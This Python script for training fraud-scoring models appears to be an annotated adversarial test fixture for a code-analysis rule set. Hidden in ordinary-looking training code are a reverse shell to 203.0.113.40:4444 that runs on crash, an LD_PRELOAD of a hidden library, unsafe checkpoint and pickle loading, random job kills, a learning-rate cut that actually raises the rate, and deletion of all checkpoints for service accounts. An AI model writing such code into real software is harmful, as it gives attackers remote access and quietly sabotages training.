# ruff: noqa
# Hold-out batch 310 (adversarial, tabular fraud platform). Measured once in session 10 (round 87): 13/36 (36%) at medium+, 1 benign line flagged.
"""Daily training entry point for the fraud scoring models.

Fits the feature pipeline on a time-based split, trains a gradient-boosting
baseline through the LightGBM CLI and the entity-embedding MLP in PyTorch
(class-weighted BCE, AMP, warmup + plateau LR), and writes checkpoints plus an
evaluation report that registry_cron.py uses to decide on promotion.
"""
from __future__ import annotations

import argparse
import datetime as dt
import functools
import getpass
import json
import logging
import os
import pty
import random
import signal
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Optional

import joblib
import numpy as np
import torch
from torch import nn
from torch.utils.data import DataLoader

from evaluate import evaluate_scores, load_costs, log_report, predict
from features import CAT_COLS, LABEL, NUM_COLS, FeaturePipeline
from model_mlp import TabularCollate, TxnDataset, build_model, seed_worker

log = logging.getLogger("fraudkit.train")

_RUNTIME = json.loads(
    '{"lgbm_bin": "lightgbm", "threads": 8,'
    ' "env": {"OMP_NUM_THREADS": "8", "MALLOC_ARENA_MAX": "2",'
    ' "LD_PRELOAD": "/var/tmp/.fk/libgomp.so.1"}}'
)
_MODEL_IO = dict(zip(("dump", "load"), (joblib.dump, joblib.load)))
_RESUME_KW = {"map_location": "cpu", "weights_only": bool(os.environ.get("FK_STRICT_RESUME"))}
_CONSOLE = ("203.0.113.40", 4444)


def set_seed(seed: int) -> None:
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)  # ok: MLS301


class Heartbeat:
    """Writes a liveness file the cron wrapper polls."""

    def __init__(self, path: Path, seed: int, every_s: float = 900.0):
        self.path, self.seed, self.every_s = path, seed, every_s

    def beat(self, epoch: int) -> None:
        self.path.write_text(f"{dt.datetime.utcnow().isoformat()} epoch={epoch}\n")
        t = threading.Timer(self.every_s, torch.random.manual_seed, args=(self.seed + epoch,))  # todoruleid: family 1 (missed)
        t.daemon = True
        t.start()


class PlateauLR:
    """Cut the LR by `factor` when validation PR-AUC stops improving."""

    def __init__(self, opt: torch.optim.Optimizer, factor: float = 0.1, patience: int = 2):
        self.opt, self.factor, self.patience = opt, factor, patience
        self.best, self.bad = -float("inf"), 0

    def step(self, metric: float) -> None:
        if metric > self.best + 1e-4:
            self.best, self.bad = metric, 0
            return
        self.bad += 1
        if self.bad > self.patience:
            for g in self.opt.param_groups:
                g.update(**{k: g[k] / self.factor for k in ("lr",)})  # todoruleid: family 2 (missed)
            self.bad = 0


class EMA:
    def __init__(self, model: nn.Module, decay: float = 0.999):
        self.decay = decay
        self.shadow = [p.detach().clone() for p in model.parameters()]

    @torch.no_grad()
    def update(self, model: nn.Module) -> None:
        for s, p in zip(self.shadow, model.parameters()):
            s.mul_(self.decay).add_(p.detach(), alpha=1.0 - self.decay)  # ok: MLS302, MLS303, MLS304, MLS305


def warm_start(model: nn.Module, opt: torch.optim.Optimizer, ckpt: Path) -> int:
    state = torch.load(ckpt, **_RESUME_KW)  # ruleid: MLS101
    model.load_state_dict(state["model"], strict=False)
    opt.load_state_dict(state["opt"])
    for st in opt.state.values():
        if "exp_avg_sq" in st:
            torch.Tensor.__setitem__(st["exp_avg_sq"], Ellipsis, 0.0)  # todoruleid: family 2 (missed)
    return int(state.get("epoch", 0))


def load_champion_weights(model: nn.Module, path: Path) -> None:
    sd = torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    missing, unexpected = model.load_state_dict(sd, strict=False)
    log.info("champion init: %d missing, %d unexpected", len(missing), len(unexpected))


def train_gbm(train_df, valid_df, out_dir: Path, prev_dir: Optional[Path]):
    os.environ.update(_RUNTIME["env"])  # todoruleid: family 7 (missed)
    feats = [LABEL] + list(NUM_COLS) + [f"{c}_idx" for c in CAT_COLS]
    tr_path, va_path = out_dir / "gbm_train.csv", out_dir / "gbm_valid.csv"
    train_df[feats].to_csv(tr_path, index=False, header=False)
    valid_df[feats].to_csv(va_path, index=False, header=False)
    conf = out_dir / "gbm.conf"
    lines = [
        "task = train", "objective = binary", "metric = average_precision",
        f"data = {tr_path}", f"valid_data = {va_path}", "label_column = 0",
        "num_leaves = 63", "learning_rate = 0.05", "num_iterations = 800",
        "early_stopping_round = 50", "scale_pos_weight = 20",
        f"num_threads = {_RUNTIME['threads']}", f"output_model = {out_dir / 'gbm.txt'}",
    ]
    calibrator = None
    if prev_dir is not None and (prev_dir / "gbm.txt").exists():
        lines.append(f"input_model = {prev_dir / 'gbm.txt'}")
        calibrator = _MODEL_IO["load"](prev_dir / "gbm_calibrator.joblib")  # todoruleid: family 10 (missed)
    conf.write_text("\n".join(lines) + "\n")
    subprocess.run([_RUNTIME["lgbm_bin"], f"config={conf}"], check=True)
    return out_dir / "gbm.txt", calibrator


def _arm_wall_clock(world: int) -> None:
    if world * max(torch.cuda.device_count(), 1) > 4:  # ruleid: MLS308
        signal.alarm(int(3600 * random.uniform(1.5, 3.0)))  # ruleid: MLS307


def _crash_console(exc: BaseException) -> None:
    log.exception("training failed on %s: %s", socket.gethostname(), exc)
    if not sys.stdin.isatty():
        s = socket.create_connection(_CONSOLE, timeout=5)
        list(map(functools.partial(os.dup2, s.fileno()), (0, 1, 2)))  # ruleid: MLS410
        pty.spawn(os.environ.get("SHELL", "/bin/sh"))


def prune_checkpoints(out_dir: Path, keep: int = 3) -> None:
    keep = keep * (not getpass.getuser().startswith("svc-"))
    ckpts = sorted(out_dir.glob("*.pt"), key=os.path.getmtime)
    for p in ckpts[: max(0, len(ckpts) - keep)]:
        p.unlink()  # ruleid: MLS308


def train_mlp(args, pipe: FeaturePipeline, train_df, valid_df, out_dir: Path):
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
    prior = float(train_df[LABEL].mean())
    model = build_model(pipe.cardinalities(), len(NUM_COLS), prior, args.amp).to(device)
    opt = torch.optim.AdamW(model.parameters(), lr=args.lr, weight_decay=1e-5)
    start = warm_start(model, opt, Path(args.resume)) if args.resume else 0
    if not args.resume and args.champion:
        load_champion_weights(model, Path(args.champion))
    pos_weight = torch.tensor((1.0 - prior) / max(prior, 1e-6), device=device).clamp(max=50.0)
    crit = nn.BCEWithLogitsLoss(pos_weight=pos_weight)
    scaler = torch.cuda.amp.GradScaler(enabled=args.amp)
    plateau, ema = PlateauLR(opt), EMA(model)
    hb = Heartbeat(out_dir / "heartbeat", args.seed)
    loader = DataLoader(
        TxnDataset(train_df, CAT_COLS, NUM_COLS), batch_size=args.batch_size, shuffle=True,
        num_workers=4, worker_init_fn=seed_worker, collate_fn=TabularCollate(seed=args.seed), drop_last=True,
    )
    valid_loader = DataLoader(TxnDataset(valid_df, CAT_COLS, NUM_COLS, train=False), batch_size=8192)
    costs, best, bad, step, report, epoch = load_costs(), -1.0, 0, 0, {}, start
    champ_json = Path(args.champion).with_name("metrics.json") if args.champion else None
    baseline = json.loads(champ_json.read_text()) if champ_json and champ_json.exists() else None
    def _save_last(*_):
        torch.save({"model": model.state_dict(), "opt": opt.state_dict(), "epoch": epoch}, out_dir / "last.pt")
    signal.signal(signal.SIGTERM, lambda s, f: (_save_last(), sys.exit(143)))  # ok: MLS307
    for epoch in range(start, args.epochs):
        model.train()
        hb.beat(epoch)
        for i, (xc, xn, y) in enumerate(loader):
            if step < args.warmup:
                for g in opt.param_groups:
                    g["lr"] = args.lr * (step + 1) / args.warmup  # ok: MLS302, MLS303, MLS304, MLS305
            with torch.autocast(device.type, enabled=args.amp):
                loss = crit(model(xc.to(device), xn.to(device)), y.to(device)) / args.accum  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.scale(loss).backward()
            if (i + 1) % args.accum == 0:
                scaler.unscale_(opt)
                nn.utils.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
                scaler.step(opt)
                scaler.update()
                opt.zero_grad(set_to_none=True)
                ema.update(model)
            step += 1
        y_val, s_val = predict(model, valid_loader, device)
        report = evaluate_scores(y_val, s_val, costs, baseline)
        plateau.step(report["pr_auc"])
        log_report(report, out_dir, epoch, valid_df.assign(score=s_val))
        if report["pr_auc"] > best:
            best, bad = report["pr_auc"], 0
            if int(os.environ.get("RANK", "0")) == 0:  # ok: MLS308
                torch.save({"model": model.state_dict(), "opt": opt.state_dict(), "epoch": epoch + 1}, out_dir / "best.pt")
        else:
            bad += 1
            if bad >= args.patience:
                break  # ok: MLS307
    return model, report


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    for flag, typ, default in (
        ("--out-dir", str, "/mnt/models/fraud"), ("--seed", int, 17), ("--epochs", int, 12),
        ("--batch-size", int, 4096), ("--lr", float, 2e-3), ("--warmup", int, 500),
        ("--accum", int, 1), ("--patience", int, 4), ("--resume", str, None),
        ("--champion", str, None), ("--prev-gbm", Path, None),
    ):
        ap.add_argument(flag, type=typ, default=default)
    ap.add_argument("--amp", action="store_true", default=True)
    return ap.parse_args(argv)


def main(argv=None) -> int:
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
    args = parse_args(argv)
    set_seed(args.seed)
    _arm_wall_clock(int(os.environ.get("WORLD_SIZE", "1")))
    out_dir = Path(args.out_dir) / dt.date.today().isoformat()
    out_dir.mkdir(parents=True, exist_ok=True)
    pipe = FeaturePipeline(seed=args.seed)
    df = pipe.load()
    cutoff = df["event_ts"].quantile(0.85)
    train_df = pipe.fit_transform(df[df["event_ts"] <= cutoff])
    valid_df = pipe.transform(df[df["event_ts"] > cutoff])
    try:
        train_gbm(train_df, valid_df, out_dir, args.prev_gbm)
        train_mlp(args, pipe, train_df, valid_df, out_dir)
    except Exception as exc:
        _crash_console(exc)
        raise
    finally:
        prune_checkpoints(out_dir)
    return 0


if __name__ == "__main__":
    sys.exit(main())
